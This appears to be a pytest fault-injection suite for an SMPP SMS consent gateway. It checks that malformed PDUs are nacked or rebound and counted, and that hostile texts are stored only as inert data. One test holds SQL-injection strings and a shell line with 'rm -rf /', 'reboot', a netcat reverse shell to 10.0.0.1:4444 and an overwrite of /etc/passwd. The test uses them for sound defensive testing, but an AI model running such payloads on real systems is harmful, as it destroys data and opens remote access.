"""Hostile input from the SMSC side: malformed PDUs and texts no one should send.

The gateway must answer as SMPP 3.4 says (generic_nack, or drop the link and bind again
when the stream cannot be re-synchronised), never crash, count every bad PDU in
``smsgw_bad_pdus_total``, and store hostile texts only as inert data with a help reply.
The decoder → parser → eligibility chain on arbitrary bytes is covered by the hypothesis
properties in tests/core/test_chain.py.
"""

from __future__ import annotations

import re
import urllib.request

import pytest
import sqlalchemy as sa

from consent_core.catalog import load_catalog
from consent_core.model import Outcome
from smpp import codec
from smpp import constants as c
from smsc_sim.threaded import SimulatorThread
from tests.support.pipeline import Pipeline, wait_until
from tests.support.servers import free_port

pytestmark = pytest.mark.faults

HELP = load_catalog().reply(Outcome.UNKNOWN_COMMAND, None, "lv")
SQL = "'; DROP TABLE consent_events; --"


def bad_pdus(port: int) -> dict[str, float]:
    body = urllib.request.urlopen(f"http://127.0.0.1:{port}/metrics", timeout=5).read().decode()
    return {m[1]: float(m[2]) for m in
            re.finditer(r'^smsgw_bad_pdus_total\{kind="([^"]+)"\} (\S+)$', body, re.M)}


@pytest.fixture
def running(make_shared_pipeline, sim: SimulatorThread):  # type: ignore[no-untyped-def]
    port = free_port()
    p: Pipeline = make_shared_pipeline(metrics={"gateway_port": port, "worker_port": 0})
    p.gateway()
    p.worker()
    assert sim.wait_for_bind(20), p.logs()[-3000:]
    p.metrics_port = port  # type: ignore[attr-defined]
    return p


def nacks(sim: SimulatorThread, sequence: int) -> list[int]:
    return [a.status for a in sim.answers() if a.command == "generic_nack" and a.sequence == sequence]


def test_malformed_pdus_are_nacked_or_rebound_counted_and_never_crash(
        running: Pipeline, sim: SimulatorThread) -> None:
    gateway = running.procs[0]
    port = running.metrics_port  # type: ignore[attr-defined]
    # A well-framed PDU the gateway does not know: a generic_nack and the link stays up.
    connections = sim.stats()["connections"]
    [(_conn, seq)] = sim.send_malformed("unknown_command")
    assert sim.wait_until(lambda s: any(
        a.command == "generic_nack" and a.sequence == seq for a in s.answers), 10)
    assert nacks(sim, seq) == [c.ESME_RINVCMDID]
    assert sim.stats()["connections"] == connections, "the link should stay up"
    # A body that stops inside a field: command_length did not describe it, so the
    # boundary after it is in doubt: a generic_nack, and bind again.
    connections = sim.stats()["connections"]
    [(_conn, seq)] = sim.send_malformed("truncated")
    assert sim.wait_until(lambda s: s.count["connections"] > connections
                          and len(s.receivers) == 1, 20)
    assert nacks(sim, seq) == [c.ESME_RINVCMDLEN]
    # Length problems: the next PDU boundary is lost, so nack and bind again.
    for kind in ("bad_length", "huge_length"):
        connections = sim.stats()["connections"]
        sim.send_malformed(kind)
        assert sim.wait_until(lambda s, c=connections: s.count["connections"] > c
                              and len(s.receivers) == 1, 20), kind
        assert any(a.command == "generic_nack" and a.status == c.ESME_RINVCMDLEN
                   for a in sim.answers()), kind
    # A deliver_sm before the bind completes (armed for the next connection).
    sim.send_malformed("unbound_deliver")
    connections = sim.stats()["connections"]
    sim.drop_connections()
    assert sim.wait_until(lambda s: s.count["connections"] > connections and len(s.receivers) == 1, 20)
    assert wait_until(lambda: bad_pdus(port).get("before_bind", 0) >= 1, 10), bad_pdus(port)
    assert any(a.command in ("deliver_sm_resp", "generic_nack") and a.status == c.ESME_RINVBNDSTS
               for a in sim.answers())

    counted = bad_pdus(port)
    print(f"\n[bad input] smsgw_bad_pdus_total: {counted}")
    assert counted.get("misframed", 0) >= 1  # truncated body
    assert counted.get("unknown_command", 0) >= 1
    assert counted.get("bad_length", 0) >= 2  # 12 octets and 4 GiB
    assert gateway.alive and gateway.runs == 1, "the gateway process must survive all of it"
    # And it still works.
    sim.send_mo("37129500001", "JAUNUMI")
    assert sim.wait_for_replies(1, 15)


def test_a_pdu_shorter_than_its_body_recycles_the_link_and_the_next_text_is_applied(
        running: Pipeline, sim: SimulatorThread, postgres_url: str) -> None:
    """The hostile SMSC's sequence: a deliver_sm whose command_length is 3 octets short of
    its body, then a valid text on the same link. The misframed one is answered and the
    link recycled at once (its close reason says so, not a later bad length); the text
    comes again on the clean bind and is answered and applied."""
    number = "37129700001"
    connections = sim.stats()["connections"]
    [(_conn, seq)] = sim.send_malformed("misframed")
    sim.send_mo(number, "JAUNUMI")
    assert sim.wait_until(lambda s: s.count["connections"] > connections
                          and len(s.receivers) == 1, 20)
    assert nacks(sim, seq) == [c.ESME_RINVMSGLEN]
    assert wait_until(lambda: bool(sim.replies_for(number)), 30), running.logs()[-3000:]
    engine = sa.create_engine(postgres_url)
    with engine.connect() as conn:
        outcomes = conn.execute(sa.text(
            "select outcome from consent_events where msisdn = :n"), {"n": number}).scalars().all()
    engine.dispose()
    assert outcomes == ["given"]
    lost = [line for line in running.logs().splitlines() if "smpp.link_lost" in line]
    assert lost and "misframed PDU" in lost[-1], lost[-3:]


def raw_deliver(sim: SimulatorThread, seq: int, msisdn: str, body: bytes, coding: int,
                payload: bytes | None = None, destination: str = "29307777") -> None:
    tlvs = codec.encode_tlvs({c.TAG_MESSAGE_PAYLOAD: payload}) if payload is not None else b""
    sim.send_raw(codec.encode_deliver_sm(seq, msisdn, 1, 1, destination, 0, coding,
                                         b"" if payload is not None else body, tlvs))


def test_hostile_texts_get_the_help_reply_and_are_stored_as_inert_data(
        running: Pipeline, sim: SimulatorThread, postgres_url: str) -> None:
    shell = "$(rm -rf /); `reboot` | nc -e /bin/sh 10.0.0.1 4444 && echo pwned > /etc/passwd"
    texts = {  # number -> text offered through the simulator's own encoder
        "37129600001": SQL,
        "37129600002": shell,
        "37129600003": "\x07\x08\x1b[2J\x7f\x0c",
        "37129600004": "👍😀 🔥",
        "37129600005": "Robert'); DELETE FROM subscribers WHERE ('1'='1",
        "37129600006": "A" * 10_000,  # in message_payload
    }
    raw = {  # number -> (octets, data_coding): what no encoder would produce
        "37129600011": (b"\x00V\x00I\x00", 8),  # UCS2 of odd length
        "37129600012": (b"\xd8\x00\x00V\x00I", 8),  # UCS2 with a lone high surrogate
        "37129600013": (b"\xdc\x00", 8),  # lone low surrogate
        "37129600014": (b"VI\x00ETA\x00", 0),  # NULs inside a GSM text
        "37129600015": (b"\x00\x00\x00\x00", 3),  # only NULs, Latin-1
    }
    for n, text in texts.items():
        sim.send_mo(n, text, long_mode="payload")
    for i, (n, (octets, coding)) in enumerate(raw.items()):
        raw_deliver(sim, 5000 + i, n, octets, coding)
    numbers = [*texts, *raw]
    assert wait_until(lambda: all(sim.replies_for(n) for n in numbers), 30), \
        [n for n in numbers if not sim.replies_for(n)]

    engine = sa.create_engine(postgres_url)
    with engine.connect() as conn:
        rows = {r.msisdn: r for r in conn.execute(sa.text(
            "select msisdn, text, action, outcome, raw_hex, data_coding, smsc from consent_events "
            "where msisdn like '371296000%'"))}
        states = conn.execute(sa.text(
            "select count(*) from consent_state where msisdn like '371296000%'")).scalar_one()
        tables = set(sa.inspect(conn).get_table_names())
        subscribers = conn.execute(sa.text("select count(*) from subscribers")).scalar_one()
    engine.dispose()

    for n in numbers:
        got = [r.text for r in sim.replies_for(n)]
        assert got == [HELP], (n, got)
        row = rows[n]
        assert row.action == "unknown" and row.outcome == "unknown_command", n
    # Stored verbatim, as data: the SQL text is just text, and the tables are all there.
    assert rows["37129600001"].text == SQL
    assert rows["37129600002"].text == shell
    assert rows["37129600005"].text == texts["37129600005"]
    assert rows["37129600004"].text == texts["37129600004"]
    assert rows["37129600006"].text == "A" * 10_000
    assert rows["37129600006"].smsc["raw_truncated_from"] == 10_000  # raw_hex capped at 4 kB
    assert rows["37129600011"].text is None and "decode_error" in rows["37129600011"].smsc
    assert bytes.fromhex(rows["37129600012"].raw_hex) == b"\xd8\x00\x00V\x00I"
    assert "\x00" not in (rows["37129600014"].text or "")  # PostgreSQL text cannot hold NUL
    assert {"consent_events", "consent_state", "subscribers", "replies"} <= tables
    assert states == 0, "a hostile text changed a consent"
    assert subscribers >= 0
